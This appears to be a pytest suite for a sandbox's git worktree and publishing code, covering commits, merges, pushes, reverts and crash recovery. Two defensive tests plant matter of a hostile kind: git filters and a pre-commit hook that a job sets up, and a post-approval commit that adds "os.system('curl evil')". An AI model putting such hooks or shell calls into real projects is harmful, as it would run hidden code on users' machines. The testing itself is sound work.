"""Job worktrees and publishing, against real git repositories built in tmp_path."""

from __future__ import annotations

import asyncio
import shutil
import subprocess
from pathlib import Path

import pytest

from runtime.errors import ApprovalMismatch, PublishConflict
from runtime.sandbox.worktree import (
    Worktree,
    commit_all,
    create_worktree,
    diff,
    init_sample_repo,
    publish_merge,
    publish_push,
    remove_worktree,
    revert_merge,
)

AUTHOR = ("Ada Lovelace", "ada@example.com")


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
        text=True,
    ).stdout.strip()


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "app.py").write_text("def answer():\n    return 41\n")
    (repo / "README.md").write_text("# demo\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "init")
    return repo


async def job_with_change(
    repo: Path, tmp_path: Path, name: str, files: dict[str, str]
) -> tuple[Worktree, str]:
    wt = await create_worktree(repo, "main", name, tmp_path / "worktrees")
    for relpath, content in files.items():
        (wt.path / relpath).parent.mkdir(parents=True, exist_ok=True)
        (wt.path / relpath).write_text(content)
    head = await commit_all(wt, f"{name}: change", *AUTHOR)
    assert head is not None
    return wt, head


async def test_worktree_is_a_checkout_of_base_on_its_own_branch(repo: Path, tmp_path: Path) -> None:
    wt = await create_worktree(repo, "main", "J-12", tmp_path / "worktrees")

    assert wt.path == (tmp_path / "worktrees" / "J-12").resolve()
    assert wt.branch == "acp/J-12"
    assert wt.base_commit == git(repo, "rev-parse", "main")
    assert wt.git_common_dir == (repo / ".git").resolve()
    assert (wt.path / "app.py").read_text().endswith("return 41\n")
    assert git(wt.path, "branch", "--show-current") == "acp/J-12"


async def test_commit_all_commits_every_change_and_diff_counts_them(
    repo: Path, tmp_path: Path
) -> None:
    wt = await create_worktree(repo, "main", "J-1", tmp_path / "worktrees")
    (wt.path / "app.py").write_text("def answer():\n    return 42\n")
    (wt.path / "docs").mkdir()
    (wt.path / "docs" / "new.md").write_text("one\ntwo\n")
    (wt.path / "README.md").unlink()

    head = await commit_all(wt, "Fix the answer", *AUTHOR)
    change = await diff(wt)

    assert head == git(repo, "rev-parse", "acp/J-1")
    assert git(repo, "log", "-1", "--format=%an <%ae> %s", head) == (
        "Ada Lovelace <ada@example.com> Fix the answer"
    )
    assert change.head_commit == head
    assert change.base_commit == wt.base_commit
    assert change.stat.files_changed == 3
    assert sorted(change.stat.files) == ["README.md", "app.py", "docs/new.md"]
    assert change.stat.insertions == 3
    assert change.stat.deletions == 2
    assert "+    return 42" in change.patch
    assert "diff --git a/docs/new.md b/docs/new.md" in change.patch


async def test_commit_all_returns_none_when_nothing_changed(repo: Path, tmp_path: Path) -> None:
    wt = await create_worktree(repo, "main", "J-2", tmp_path / "worktrees")

    assert await commit_all(wt, "nothing", *AUTHOR) is None


async def test_commit_all_runs_no_hook_and_no_filter_the_job_sets_up(
    repo: Path, tmp_path: Path
) -> None:
    witness = tmp_path / "filter-ran"
    git(repo, "config", "filter.sneaky.clean", f"touch {witness}; cat")
    git(repo, "config", "filter.daemon.process", f"touch {witness}; exit 1")
    hooks = repo / ".git" / "hooks"
    (hooks / "pre-commit").write_text(f"#!/bin/sh\ntouch {witness}\nexit 1\n")
    (hooks / "pre-commit").chmod(0o755)
    wt = await create_worktree(repo, "main", "J-3", tmp_path / "worktrees")
    (wt.path / ".gitattributes").write_text("*.txt filter=sneaky\n*.bin filter=daemon\n")
    (wt.path / "data.txt").write_text("payload\n")
    (wt.path / "blob.bin").write_text("bytes\n")
    # A job that repoints its .git file must not change where the commit goes.
    (wt.path / ".git").write_text(f"gitdir: {tmp_path / 'elsewhere'}\n")

    head = await commit_all(wt, "with attributes", *AUTHOR)

    assert head is not None
    assert not witness.exists()
    assert git(repo, "show", f"{head}:data.txt") == "payload"


async def test_publish_merge_lands_the_change_on_the_base_branch(
    repo: Path, tmp_path: Path
) -> None:
    old_main = git(repo, "rev-parse", "main")
    wt, head = await job_with_change(repo, tmp_path, "J-4", {"app.py": "return 42\n"})

    merge = await publish_merge(repo, "main", wt.branch, head, "Merge J-4")

    assert git(repo, "rev-parse", "main") == merge
    assert git(repo, "log", "-1", "--format=%P %s", "main") == f"{old_main} {head} Merge J-4"
    assert git(repo, "show", "main:app.py") == "return 42"


async def test_publish_updates_a_clean_checkout_of_the_base_branch(
    repo: Path, tmp_path: Path
) -> None:
    wt, head = await job_with_change(repo, tmp_path, "J-5", {"new.txt": "from the job\n"})

    await publish_merge(repo, "main", wt.branch, head, "Merge J-5")

    assert (repo / "new.txt").read_text() == "from the job\n"
    assert git(repo, "status", "--porcelain") == ""


async def test_publish_leaves_a_dirty_checkout_alone(repo: Path, tmp_path: Path) -> None:
    wt, head = await job_with_change(repo, tmp_path, "J-6", {"new.txt": "from the job\n"})
    (repo / "README.md").write_text("# someone is editing\n")

    merge = await publish_merge(repo, "main", wt.branch, head, "Merge J-6")

    assert git(repo, "rev-parse", "main") == merge
    assert (repo / "README.md").read_text() == "# someone is editing\n"
    assert not (repo / "new.txt").exists()


async def test_publish_refuses_when_the_job_branch_moved_after_approval(
    repo: Path, tmp_path: Path
) -> None:
    wt, approved = await job_with_change(repo, tmp_path, "J-7", {"app.py": "return 42\n"})
    (wt.path / "app.py").write_text("import os; os.system('curl evil')\n")
    await commit_all(wt, "sneaky follow-up", *AUTHOR)
    main_before = git(repo, "rev-parse", "main")

    with pytest.raises(ApprovalMismatch, match="changed since it was approved"):
        await publish_merge(repo, "main", wt.branch, approved, "Merge J-7")

    assert git(repo, "rev-parse", "main") == main_before


async def test_conflicting_change_is_refused_and_base_is_untouched(
    repo: Path, tmp_path: Path
) -> None:
    wt, head = await job_with_change(repo, tmp_path, "J-8", {"app.py": "return 42\n"})
    (repo / "app.py").write_text("return 43\n")
    git(repo, "commit", "-q", "-am", "someone else fixed it differently")
    main_before = git(repo, "rev-parse", "main")

    with pytest.raises(PublishConflict, match=r"app\.py"):
        await publish_merge(repo, "main", wt.branch, head, "Merge J-8")

    assert git(repo, "rev-parse", "main") == main_before
    assert (repo / "app.py").read_text() == "return 43\n"


async def test_two_concurrent_publishes_both_land(repo: Path, tmp_path: Path) -> None:
    wt_a, head_a = await job_with_change(repo, tmp_path, "J-9", {"a.txt": "a\n"})
    wt_b, head_b = await job_with_change(repo, tmp_path, "J-10", {"b.txt": "b\n"})

    merges = await asyncio.gather(
        publish_merge(repo, "main", wt_a.branch, head_a, "Merge J-9"),
        publish_merge(repo, "main", wt_b.branch, head_b, "Merge J-10"),
    )

    assert git(repo, "show", "main:a.txt") == "a"
    assert git(repo, "show", "main:b.txt") == "b"
    history = git(repo, "rev-list", "--first-parent", "main").splitlines()
    assert set(merges) <= set(history[:2])


async def test_retried_publish_returns_the_same_merge(repo: Path, tmp_path: Path) -> None:
    wt, head = await job_with_change(repo, tmp_path, "J-11", {"app.py": "return 42\n"})

    first = await publish_merge(repo, "main", wt.branch, head, "Merge J-11")
    again = await publish_merge(repo, "main", wt.branch, head, "Merge J-11")

    assert again == first
    assert git(repo, "rev-parse", "main") == first


async def test_revert_merge_restores_the_file_content(repo: Path, tmp_path: Path) -> None:
    wt, head = await job_with_change(repo, tmp_path, "J-12", {"app.py": "return 42\n"})
    merge = await publish_merge(repo, "main", wt.branch, head, "Merge J-12")
    (repo / "other.txt").write_text("later work\n")
    git(repo, "add", "other.txt")
    git(repo, "commit", "-q", "-m", "unrelated later commit")

    revert = await revert_merge(repo, "main", merge, "Revert J-12")

    assert git(repo, "rev-parse", "main") == revert
    assert git(repo, "show", "main:app.py") == "def answer():\n    return 41"
    assert git(repo, "show", "main:other.txt") == "later work"
    assert (repo / "app.py").read_text() == "def answer():\n    return 41\n"


async def test_revert_conflicting_with_later_work_is_refused(repo: Path, tmp_path: Path) -> None:
    wt, head = await job_with_change(repo, tmp_path, "J-13", {"app.py": "return 42\n"})
    merge = await publish_merge(repo, "main", wt.branch, head, "Merge J-13")
    (repo / "app.py").write_text("return 44\n")
    git(repo, "commit", "-q", "-am", "built on top of the job's change")
    main_before = git(repo, "rev-parse", "main")

    with pytest.raises(PublishConflict, match=r"app\.py"):
        await revert_merge(repo, "main", merge, "Revert J-13")

    assert git(repo, "rev-parse", "main") == main_before


async def test_stale_worktree_from_a_crash_is_replaced(repo: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    crashed = await create_worktree(repo, "main", "J-14", root)
    (crashed.path / "half-done.txt").write_text("partial\n")
    await commit_all(crashed, "partial work", *AUTHOR)
    (repo / "app.py").write_text("return 50\n")
    git(repo, "commit", "-q", "-am", "base moved on")

    fresh = await create_worktree(repo, "main", "J-14", root)

    assert fresh.path == crashed.path
    assert fresh.base_commit == git(repo, "rev-parse", "main")
    assert git(repo, "rev-parse", "acp/J-14") == fresh.base_commit
    assert not (fresh.path / "half-done.txt").exists()
    assert (fresh.path / "app.py").read_text() == "return 50\n"


async def test_branch_left_without_its_directory_is_replaced(repo: Path, tmp_path: Path) -> None:
    root = tmp_path / "worktrees"
    crashed = await create_worktree(repo, "main", "J-15", root)
    shutil.rmtree(crashed.path)

    fresh = await create_worktree(repo, "main", "J-15", root)

    assert (fresh.path / "app.py").exists()
    assert git(fresh.path, "branch", "--show-current") == "acp/J-15"


async def test_remove_worktree_deletes_checkout_and_branch(repo: Path, tmp_path: Path) -> None:
    wt = await create_worktree(repo, "main", "J-16", tmp_path / "worktrees")

    await remove_worktree(wt, delete_branch=True)

    assert not wt.path.exists()
    assert git(repo, "branch", "--list", "acp/J-16") == ""
    assert str(wt.path) not in git(repo, "worktree", "list")


async def test_publish_push_sends_the_approved_commit_to_the_remote(
    repo: Path, tmp_path: Path
) -> None:
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(repo, "remote", "add", "origin", str(remote))
    wt, head = await job_with_change(repo, tmp_path, "J-17", {"app.py": "return 42\n"})

    pushed = await publish_push(repo, "origin", wt.branch, "acp/J-17", head)

    assert pushed == head
    assert git(remote, "rev-parse", "refs/heads/acp/J-17") == head
    with pytest.raises(ApprovalMismatch):
        await publish_push(repo, "origin", wt.branch, "acp/J-17", wt.base_commit)


async def test_init_sample_repo_commits_the_files_once(tmp_path: Path) -> None:
    source = tmp_path / "sample"
    (source / "src").mkdir(parents=True)
    (source / "src" / "main.py").write_text("print('hi')\n")
    dest = tmp_path / "demo"

    await init_sample_repo(source, dest)
    await init_sample_repo(source, dest)

    assert git(dest, "log", "--format=%an|%s", "main") == "acp sample|Initial sample"
    assert git(dest, "show", "main:src/main.py") == "print('hi')"
